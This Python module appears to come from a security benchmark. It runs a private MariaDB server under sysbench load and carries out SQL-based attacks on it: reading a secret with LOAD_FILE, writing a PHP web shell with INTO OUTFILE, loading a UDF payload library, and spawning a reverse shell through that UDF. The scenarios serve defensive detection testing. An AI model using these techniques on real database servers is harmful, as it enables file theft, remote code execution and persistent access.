"""MariaDB (Debian) with its own data directory, under sysbench oltp_read_write at a fixed
transaction rate. Attacks through the database's own features, as a SQL injection or a
stolen admin login would use them (the `mariadb` client, as root over the socket):

- in-thread: `SELECT LOAD_FILE(<secret>)` and `SELECT ... INTO OUTFILE` (a web shell
  written to disk), both done by the connection's server thread;
- code loading: `CREATE FUNCTION sg_exec RETURNS INTEGER SONAME 'libsg_payload.so'`
  (a UDF plugin: the server thread dlopen()s it, its constructor runs);
- spawn: `SELECT sg_exec('<reverse shell> &')`, the UDF's system() (lib_mysqludf_sys
  style), so it runs after the code-loading attack.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from pathlib import Path

from benchmarks.scenarios.attacks import (
    CODE_LOADING,
    IN_THREAD,
    SPAWN,
    Attack,
    Outcome,
    ShellCatcher,
    build_payload,
    plant_secret,
    reverse_shell_command,
    wait_for,
)
from benchmarks.scenarios.servers.base import (
    Daemon,
    first_line,
    free_port,
    private_copy,
    wait_port,
)

TPS, THREADS, TABLES, ROWS = 10, 2, 2, 2000


class MariaDB:
    name = "mariadb"
    comm = "sgs-mariadbd"
    debian_packages = ("mariadb-server", "mariadb-client", "sysbench")
    load = (f"sysbench oltp_read_write, {THREADS} threads, {TPS} transactions/s, "
            f"{TABLES} tables × {ROWS:,} rows")

    def __init__(self) -> None:
        self.server: Daemon | None = None
        self.bench: Daemon | None = None

    def start(self, work: Path, budget_s: float) -> None:
        self.work = work
        run = work / "run"
        run.mkdir(exist_ok=True)
        shutil.chown(run, "mysql")  # the server, as mysql, makes its socket here
        self.socket = run / "mariadb.sock"
        plugins = work / "plugins"
        self.payload = build_payload(plugins)
        subprocess.run(["mariadb-install-db", "--no-defaults", f"--datadir={work}/data",
                        "--user=mysql", "--auth-root-authentication-method=normal",
                        "--skip-test-db"], check=True, capture_output=True)
        self.port = free_port()
        self.server = Daemon(
            [private_copy("/usr/sbin/mariadbd", work, self.comm), "--no-defaults",
             "--basedir=/usr", f"--datadir={work}/data",
             f"--socket={self.socket}", f"--port={self.port}", "--bind-address=127.0.0.1",
             "--user=mysql", f"--plugin-dir={plugins}", f"--pid-file={run}/mariadbd.pid",
             f"--log-error={run}/error.log", "--innodb-buffer-pool-size=64M",
             "--secure-file-priv=", "--skip-name-resolve"], work / "mariadbd.out").start()
        if not wait_port(self.port, 60, self.server.alive):
            raise RuntimeError(f"mariadbd did not start; see {work}/run/error.log")
        self.sql("CREATE DATABASE sbtest")
        common = self._sysbench_args()
        subprocess.run(["sysbench", *common, "prepare"], check=True, capture_output=True)
        self.bench = Daemon(["sysbench", *common, f"--threads={THREADS}", f"--rate={TPS}",
                             f"--time={int(budget_s)}", "--report-interval=10", "run"],
                            work / "sysbench.out").start()

    def _sysbench_args(self) -> list[str]:
        return ["oltp_read_write", "--db-driver=mysql", f"--mysql-socket={self.socket}",
                "--mysql-user=root", "--mysql-db=sbtest", f"--tables={TABLES}",
                f"--table-size={ROWS}"]

    def sql(self, statement: str, timeout: float = 30) -> str:
        done = subprocess.run(["mariadb", "--no-defaults", f"--socket={self.socket}", "-uroot",
                               "-N", "-B", "-e", statement], capture_output=True, text=True,
                              timeout=timeout)
        if done.returncode != 0:
            raise RuntimeError(f"mariadb: {done.stderr.strip()}")
        return done.stdout

    def trouble(self) -> str | None:
        if self.server is None or not self.server.alive():
            return "mariadbd exited"
        if self.bench is None or not self.bench.alive():
            return "sysbench stopped"
        return None

    def load_done(self) -> int:
        """Transactions so far, from sysbench's 10-second reports."""
        text = (self.work / "sysbench.out").read_text(errors="replace")
        return int(sum(float(t) * 10 for t in re.findall(r"\] thds: \d+ tps: ([\d.]+)", text)))

    def attacks(self) -> list[Attack]:
        return [
            Attack("sql-load-file-outfile", IN_THREAD,
                   "LOAD_FILE() of a secret and SELECT … INTO OUTFILE of a web shell",
                   self._files),
            Attack("sql-udf-soname", CODE_LOADING,
                   "CREATE FUNCTION … SONAME loads a UDF plugin (dlopen; constructor runs)",
                   self._udf, ("memfd_create",)),
            Attack("sql-udf-revshell", SPAWN,
                   "the loaded UDF's system() starts a reverse shell", self._spawn,
                   ("execve",)),
        ]

    def _files(self) -> Outcome:
        secret = plant_secret(self.work)
        shell = self.work / "outfile" / "shell.php"
        shell.parent.mkdir(exist_ok=True)
        shutil.chown(shell.parent, "mysql")
        begins = time.monotonic_ns()
        stolen = self.sql(f"SELECT LOAD_FILE('{secret}')")
        self.sql(f"SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '{shell}'")
        ok = "SG-SCENARIO-SECRET" in stolen and shell.exists()
        return Outcome(self.server_pid, begins, begins, ok,
                       f"secret read: {'SG-SCENARIO-SECRET' in stolen}; "
                       f"web shell written: {shell.exists()}")

    def _udf(self) -> Outcome:
        before = self.payload.loads()
        begins = time.monotonic_ns()
        self.sql(f"CREATE FUNCTION sg_exec RETURNS INTEGER SONAME '{self.payload.path.name}'")
        ok = wait_for(lambda: self.payload.loads() > before, 5)
        return Outcome(self.server_pid, begins, begins, ok,
                       "UDF loaded, constructor ran" if ok else "no mark")

    def _spawn(self) -> Outcome:
        with ShellCatcher() as catcher:
            command = (reverse_shell_command(catcher.port) + " &").replace("'", "''")
            begins = time.monotonic_ns()
            self.sql(f"SELECT sg_exec('{command}')")
            ok, evidence = catcher.result()
        return Outcome(self.server_pid, begins, begins, ok, evidence)

    @property
    def server_pid(self) -> int:
        assert self.server is not None
        return self.server.pid

    def version(self) -> str:
        line = first_line(["/usr/sbin/mariadbd", "--version"])  # "... Ver 10.11.18-MariaDB-..."
        return "MariaDB " + line.split(" Ver ", 1)[-1].split("-MariaDB", 1)[0]

    def stop(self) -> None:
        for d in (self.bench, self.server):
            if d is not None:
                d.stop()
